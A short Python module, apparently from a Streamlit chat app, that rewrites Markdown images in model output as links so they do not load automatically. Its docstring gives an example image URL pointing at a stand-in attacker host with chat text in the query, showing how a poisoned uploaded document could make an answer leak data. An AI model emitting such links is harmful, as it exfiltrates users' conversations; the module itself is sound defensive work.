"""Rendering model output and user text safely as Markdown.

Streamlit's Markdown already shows raw HTML as text and rewrites ``javascript:`` links, so
nothing in an answer can run. One thing it still does is load a Markdown image as soon as it
is shown: an answer (say, to a poisoned uploaded document) could carry
``![x](https://attacker/?q=<chat text>)`` and leak data without a click. Images are shown as
links instead, which only a click follows.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

_IMAGE, _AS_LINK = "![", "[🖼 "


def defuse_images(text: str) -> str:
    """``text`` with every Markdown image turned into a link."""
    return text.replace(_IMAGE, _AS_LINK)


def defuse_stream(chunks: Iterable[str]) -> Iterator[str]:
    """``defuse_images`` over streamed text, where a ``!`` may end one chunk and ``[`` start
    the next: a trailing ``!`` waits for the following chunk."""
    held = ""
    for chunk in chunks:
        text = held + chunk
        held = "!" if text.endswith("!") else ""
        if out := defuse_images(text[: len(text) - len(held)]):
            yield out
    if held:
        yield held
